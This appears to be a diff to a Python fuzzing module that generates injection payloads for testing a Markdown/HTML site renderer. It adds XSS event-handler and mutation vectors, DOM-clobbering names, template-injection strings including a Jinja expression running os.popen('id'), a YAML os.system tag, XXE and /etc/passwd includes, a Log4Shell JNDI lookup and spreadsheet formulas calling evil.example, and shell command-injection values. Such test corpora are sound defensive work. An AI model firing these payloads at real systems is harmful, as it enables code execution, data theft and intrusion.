@@ -78,6 +78,24 @@ EVENTS = [
     "onbeforematch",
     "oncontentvisibilityautostatechange",
 ]
+MORE_EVENTS = (
+    "onabort", "onafterprint", "onanimationcancel", "onanimationiteration", "onbeforecopy", "onbeforecut",
+    "onbeforeinput", "onbeforepaste", "onbeforeprint", "onbeforeunload", "onbegin", "onbounce", "oncancel",
+    "oncanplaythrough", "onchange", "onclose", "oncommand", "oncontextmenu", "oncopy", "oncuechange",
+    "ondblclick", "ondrag", "ondragend", "ondragenter", "ondragleave", "ondragover", "ondragstart", "ondrop",
+    "ondurationchange", "onemptied", "onend", "onended", "onfinish", "onfocusin", "onfocusout", "onformdata",
+    "onfullscreenchange", "ongotpointercapture", "oninput", "oninvalid", "onkeydown", "onkeypress", "onkeyup",
+    "onlanguagechange", "onloadeddata", "onloadedmetadata", "onloadend", "onlostpointercapture",
+    "onmessageerror", "onmousedown", "onmouseenter", "onmouseleave", "onmousemove", "onmouseout", "onmouseup",
+    "onmousewheel", "onoffline", "ononline", "onpagehide", "onpause", "onplay", "onplaying",
+    "onpointercancel", "onpointerdown", "onpointerleave", "onpointermove", "onpointerout", "onpointerover",
+    "onpointerup", "onpopstate", "onprogress", "onratechange", "onrejectionhandled", "onrepeat", "onreset",
+    "onresize", "onsearch", "onsecuritypolicyviolation", "onseeked", "onseeking", "onselect",
+    "onselectionchange", "onselectstart", "onshow", "onslotchange", "onstalled", "onstorage", "onsubmit",
+    "onsuspend", "ontimeupdate", "ontouchcancel", "ontouchend", "ontouchmove", "ontouchstart",
+    "ontransitioncancel", "ontransitionrun", "ontransitionstart", "onunhandledrejection", "onunload",
+    "onvolumechange", "onwaiting", "onwebkitanimationend", "onwebkitmouseforceup",
+)  # fmt: skip
 # What stands between the name of a tag and its attribute, or within a tag, that one parser or another lets pass.
 BETWEEN = ("/", "//", "\t", "\f", " / ", " a=''", ' x="', " a='>' ", "/x=1/", " \u2028")
 SINGLE = (
@@ -205,13 +223,80 @@ SCHEMES = (
     "http://good@evil.example", "https://evil.example\\@good.example", "http://[evil", "./javascript:alert(1)",
     "?javascript:alert(1)", "&#x2f;/evil.example", "\u3164javascript:alert(1)", "java\u00adscript:alert(1)",
 )  # fmt: skip
-# How Markdown leads somewhere.
-WAYS = ("[x]({})", "![x]({})", "[x](<{}>)", "<{}>", "[x][y]\n\n[y]: {}", '[x]({} "y\\" onclick=alert(1) ")')
+# How Markdown and HTML lead somewhere.
+WAYS = (
+    "[x]({})", "![x]({})", "[x](<{}>)", "<{}>", "[x][y]\n\n[y]: {}", '[x]({} "y\\" onclick=alert(1) ")',
+    "![x][y]\n\n[y]: <{}>", "[![x]({})](a.md)", "x[^1]\n\n[^1]: [x]({})", "- [x] [x]({})", "| a |\n|---|\n| [x]({}) |",
+    "[x]({}){{: target=_top }}", "> # [x]({})", "<a href='{}'>x</a>", "<a href={}>x", "<img srcset='{} 1x'>",
+    "<svg><use xlink:href='{}'/>", "<svg><a><animate attributeName=href values='{}'/><text>x", "<form action='{}'>",
+    "<button formaction='{}'>x", "<iframe src='{}'>", "<meta http-equiv=refresh content='0;url={}'>", "<base href='{}'>",
+    "<link rel=preload href='{}'>", "<p style='background:url({})'>x", "<style>@import '{}';</style>", "{}",
+)  # fmt: skip
+# Elements in which a browser reads on in another way, so that what is text in one place is an element in the next.
+OTHERWISE_READ = (
+    "noscript", "noembed", "noframes", "template", "title", "textarea", "xmp", "iframe", "style", "svg><style",
+    "svg><title", "svg><desc", "svg><foreignObject><math", "math><mtext><mglyph", "math><annotation-xml", "select",
+    "math><annotation-xml encoding=text/html", "table><caption", "select><option", "form><math><mtext></form><form",
+    "svg><p><style", "a><table><a", "frameset", "plaintext", "object", "audio", "canvas", "marquee", "ruby><rtc",
+)  # fmt: skip
+INNER = (
+    "<p id='</{}><img src=x onerror=alert(1)>'>",
+    "<!--</{}><img src=x onerror=alert(1)>-->",
+    "</{}><svg/onload=alert(1)>",
+    "<![CDATA[</{}><script>alert(1)</script>]]>",
+)
+# Names that a page's scripts, or a browser, ask for.
+ASKED_FOR = (
+    "config", "document", "location", "body", "head", "forms", "cookie", "children", "attributes", "parentNode",
+    "nodeName", "submit", "action", "__md_scope", "__config", "__search", "__drawer", "__palette_0", "pagefind",
+    "currentScript", "defaultView", "querySelector", "innerHTML", "alert", "toString", "self", "top", "__proto__",
+)  # fmt: skip
+TEMPLATES = (
+    "{{ 7*7 }}", "{{ self }}", "{{ config.plugins }}", "{{ page.meta }}", "{{ lipsum.__globals__ }}", "{{ macros_info() }}",
+    "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{ environment }}", "{{ context() }}", "{{ git }}",
+    "{{ ''|attr('__class__') }}", "{{ request }}", "{%- for x in range(9**9) %}x{% endfor %}", "{% set x = 1 %}{{ x }}",
+    "{% extends 'main.html' %}", "{% import 'main.html' as x %}", "{% macro x() %}", "{% if", "{{", "}}", "{%", "%}", "{#",
+    "[[ 7*7 ]]", "[% x %]", "<% x %>", "@{x}", "*{x}", "~{x}", "{{{{ x }}}}", "{{=1}}", "{{constructor.constructor('x')()}}",
+)  # fmt: skip
+OTHER_LANGUAGES = (
+    # YAML
+    "*anchor", "&anchor x", "<<: *anchor", "!!python/object/apply:os.system [id]", "!!binary PHNjcmlwdD4=", "!include x.yml",
+    "!ENV HOME", "? x", "---\ntitle: x\n---\n", "...\n---\n", "%YAML 1.1\n---", "x: y: z", "- - - x", "| x", "> x", "{a: b}",
+    "[a, b", "# x", " #x", "0o17", "1_000", "1:30", "~~~", "nil", ".inf", "@x: y", "`x`: y", "\"x\": 'y'", "on: off",
+    # Calendars, lists of contacts, letters
+    "x\r\nBEGIN:VEVENT\r\nSUMMARY:x\r\nEND:VEVENT", "x\nATTACH;VALUE=URI://evil.example", "x\\nURL:javascript:alert(1)",
+    "x;ALTREP=\"//evil.example\":x", "x\r\nBcc: a@evil.example", "x\nSubject: x\n\nx", "END:VCALENDAR", "x\n X-A:x\n",
+    # Tables of other programs
+    ";=1+1", ",=1+1", "\t=1+1", "\"\t=1+1", "\n=1+1", "\u00a0=1+1", "\uff1d1+1", "+1+1", "-1-1", "@x()", "'=1+1", "\"=1+1",
+    "=IMPORTXML(\"//evil.example\")", "=WEBSERVICE(\"//evil.example\")", "%0A=1+1", "|calc", "\ufeff=1+1", "DDE (\"cmd\")",
+    # JSON and scripts
+    "\"},{\"@type\":\"Person\"}", "\"}</script><b onclick=alert(1)>", "\u2028alert(1)//", "\u2029alert(1)//", "*/alert(1)/*",
+    "\\\"};alert(1)//", "`;alert(1)//", "-->alert(1)", "</SCRIPT ><b onclick=alert(1)>", "</script/x><b onclick=alert(1)>",
+    "{\"__proto__\":{\"x\":1}}", "\\ud800", "\\\\u003c/script>", "<\\/script><script>alert(1)<\\/script>",
+    # XML and feeds
+    "&xxe;", "<!DOCTYPE x [<!ENTITY y 'z'>]>", "<?xml-stylesheet href='//evil.example'?>", "<x:include href='/etc/passwd'/>",
+    "</title></entry><entry>", "<link rel='alternate' href='javascript:alert(1)'/>", "<content type='html'>&lt;script&gt;",
+    "]]]]><![CDATA[>", "&#0;", "&#x1F;", "&#xD800;", "&#xFFFF;", "&bogus;", "&amp", "&", "&&lt;script&&gt;",
+    # Styles and cards
+    "x:expression(alert(1))", "-moz-binding:url(//evil.example)", "behavior:url(//evil.example)", "}</style><p>x",
+    "}*{background:url(//evil.example)}", "@import//evil.example;", "\\3c script\\3e", "/*", "<!ENTITY % x '//evil.example'>",
+    "<text onclick='alert(1)'>", "<image href='//evil.example'/>", "url(#x)", "</text></svg><script>alert(1)</script>",
+    # Crawlers and servers
+    "x\nDisallow: /", "x\nSitemap: //evil.example", "x\r\nLocation: //evil.example", "<!--#include virtual='/etc/passwd'-->",
+    "<?php echo 1 ?>", "${jndi:ldap://evil.example}", "$(id)", "`id`", "; id", "| id", "%00", "..%2f..%2f", "C:\\x", "~/x",
+    # Terminals and workflows
+    "::set-output name=x::y", "##[command]x", "::stop-commands::x", "@everyone", "#1", "GH-1", "x\n::error::x",
+)  # fmt: skip
+UNSEEN = (
+    "\u200b", "\u200c", "\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u2060", "\u2066", "\u2067", "\u2068",
+    "\u2069", "\ufeff", "\u00ad", "\u034f", "\u061c", "\u115f", "\u17b4", "\u180e", "\u2800", "\u3164", "\ufe0f",
+    "\U000e0041", "\ufff9", "\ufffc",
+)  # fmt: skip
 
 
 def payloads() -> list[str]:
     """All of them, each once, none longer than a title may be."""
-    return [text for text in dict.fromkeys(_all()) if 3 <= len(text.strip()) <= 120]
+    return [text for text in dict.fromkeys(_all()) if len(text.strip()) >= 2 and len(text) <= 120]
 
 
 def _all() -> Iterator[str]:
@@ -219,7 +304,7 @@ def _all() -> Iterator[str]:
     for number, tag in enumerate(TAGS):
         for event in (EVENTS[number % len(EVENTS)], EVENTS[(number + 9) % len(EVENTS)]):
             yield f"<{tag} {event}=alert(1)>x</{tag}>"
-    for event in EVENTS:
+    for event in (*EVENTS, *MORE_EVENTS):
         yield f"<b {event}=alert(1) tabindex=1>x"
         yield f'" {event}=alert(1) autofocus a="'
         yield f"' {event}='alert(1)"
@@ -249,3 +334,15 @@ def _all() -> Iterator[str]:
         yield live.replace("<", "\u2039").replace(">", "\u203a")
     for scheme, way in itertools.product(SCHEMES, WAYS):
         yield way.format(scheme)
+    for outer, inner in itertools.product(OTHERWISE_READ, INNER):
+        yield f"<{outer}>" + inner.format(outer.rpartition("<")[2].split()[0])
+    for name in ASKED_FOR:
+        yield f"<a id={name} href=cid:alert(1)>x</a>"
+        yield f"<form name={name}><input name={name}></form>"
+        yield f"[x](a.md){{: #{name} .{name} name={name} }}"
+        yield f"# {name} {{#{name}}}"
+    yield from TEMPLATES
+    yield from OTHER_LANGUAGES
+    for sign, live in itertools.product(UNSEEN, LIVE):
+        yield f"x{sign}{live}"
+        yield live.replace("<", f"<{sign}")
